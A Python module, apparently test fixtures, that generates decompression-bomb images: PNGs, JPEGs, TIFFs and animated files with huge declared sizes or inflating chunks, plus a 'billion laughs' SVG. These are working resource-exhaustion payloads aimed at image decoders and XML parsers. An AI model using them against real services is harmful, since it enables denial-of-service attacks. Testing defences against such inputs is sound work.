"""Images that are small to send and large to decode, each built on the spot."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable

from PIL import Image

SIDE = 7071  # 49,999,041 px: just inside the limit, so that the pixels are what it costs
SIGNATURE = b"\x89PNG\r\n\x1a\n"
GREY, RGB, RGBA = 0, 2, 6  # PNG's colour types


def chunk(kind: bytes, data: bytes) -> bytes:
    return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))


def header(width: int, height: int, depth: int = 8, colour: int = RGB) -> bytes:
    return chunk(b"IHDR", struct.pack(">IIBBBBB", width, height, depth, colour, 0, 0, 0))


def zeros(size_bytes: int) -> bytes:
    """`size_bytes` of zeros, deflated."""
    packer = zlib.compressobj(1)
    block = bytes(2**20)
    parts = [packer.compress(block) for _ in range(size_bytes // len(block))]
    return b"".join([*parts, packer.compress(bytes(size_bytes % len(block))), packer.flush()])


def png(width: int, height: int, *extra: bytes, depth: int = 8, colour: int = RGB) -> bytes:
    """A black PNG; `extra`: chunks before its pixels."""
    channels = {GREY: 1, RGB: 3, RGBA: 4}[colour]
    pixels = zeros(height * (1 + width * channels * depth // 8))
    head = [SIGNATURE, header(width, height, depth, colour), *extra]
    return b"".join([*head, chunk(b"IDAT", pixels), chunk(b"IEND", b"")])


def animated(format: str, frames: int, side: int) -> bytes:
    buffer = io.BytesIO()
    first, *rest = [Image.new("RGB", (side, side), (k, 255 - k, 0)) for k in range(frames)]
    first.save(buffer, format, save_all=True, append_images=rest)
    return buffer.getvalue()


def endless_scans(side: int, scans: int) -> bytes:
    """A progressive JPEG whose last scan is repeated: each walks all coefficients again."""
    buffer = io.BytesIO()
    Image.new("L", (side, side), 128).save(buffer, "JPEG", progressive=True)
    data = buffer.getvalue()
    last = data.rindex(b"\xff\xda")
    tables = data.rindex(b"\xff\xc4", 0, last)
    return data[:last] + data[tables:-2] * scans + data[-2:]


def huge_jpeg_header() -> bytes:
    buffer = io.BytesIO()
    Image.new("RGB", (64, 64)).save(buffer, "JPEG")
    data = bytearray(buffer.getvalue())
    at = data.index(b"\xff\xc0") + 5
    data[at : at + 4] = struct.pack(">HH", 65_500, 65_500)
    return bytes(data)


def webp(side: int) -> bytes:
    buffer = io.BytesIO()
    Image.new("RGBA", (side, side), (1, 2, 3, 4)).save(buffer, "WEBP", lossless=True, method=0)
    return buffer.getvalue()


def huge_tiff() -> bytes:
    """A header that announces 60,000 x 60,000 px."""
    tags = [(256, 4, 1, 60_000), (257, 4, 1, 60_000), (258, 3, 1, 8), (259, 3, 1, 1)]
    tags += [(262, 3, 1, 1), (273, 4, 1, 8), (278, 4, 1, 60_000), (279, 4, 1, 3_600_000_000)]
    entries = b"".join(struct.pack("<HHII", *tag) for tag in tags)
    return b"II*\0" + struct.pack("<IH", 8, len(tags)) + entries + bytes(4)


def laughing_svg() -> bytes:
    names = "abcdefghij"
    entities = "".join(
        f'<!ENTITY {name} "{f"&{names[k - 1]};" * 10 if k else "lol"}">'
        for k, name in enumerate(names)
    )
    return f'<!DOCTYPE svg [{entities}]><svg xmlns="http://www.w3.org/2000/svg">&j;</svg>'.encode()


TEXT_BOMB = 256 * 2**20

BOMBS: dict[str, Callable[[], bytes]] = {
    "PNG header of 30,000 x 30,000 px": lambda: (
        SIGNATURE + header(30_000, 30_000) + chunk(b"IDAT", zeros(1000))
    ),
    "PNG of 50 MP in a few KB": lambda: png(SIDE, SIDE),
    "PNG of 50 MP with alpha": lambda: png(SIDE, SIDE, colour=RGBA),
    "PNG of 50 MP, 16-bit grey": lambda: png(SIDE, SIDE, depth=16, colour=GREY),
    "PNG of 50 MP that ends early": lambda: png(SIDE, SIDE)[:100_000],
    "zTXt that inflates to 256 MiB": lambda: png(
        64, 64, chunk(b"zTXt", b"Comment\0\0" + zeros(TEXT_BOMB))
    ),
    "iCCP that inflates to 256 MiB": lambda: png(
        64, 64, chunk(b"iCCP", b"profile\0\0" + zeros(TEXT_BOMB))
    ),
    "PNG whose pixels go on for 256 MiB": lambda: b"".join(
        [SIGNATURE, header(64, 64), chunk(b"IDAT", zeros(TEXT_BOMB)), chunk(b"IEND", b"")]
    ),
    "APNG of 200 frames": lambda: animated("PNG", 200, 500),
    "GIF of 60 frames": lambda: animated("GIF", 60, 300),
    "WebP of 100 frames": lambda: animated("WEBP", 100, 500),
    "WebP of 49 MP in one colour": lambda: webp(7000),
    "JPEG header of 65,500 x 65,500 px": huge_jpeg_header,
    "progressive JPEG of 2,000 scans": lambda: endless_scans(7000, 2000),
    "TIFF header of 60,000 x 60,000 px": huge_tiff,
    "SVG of a billion laughs": laughing_svg,
}
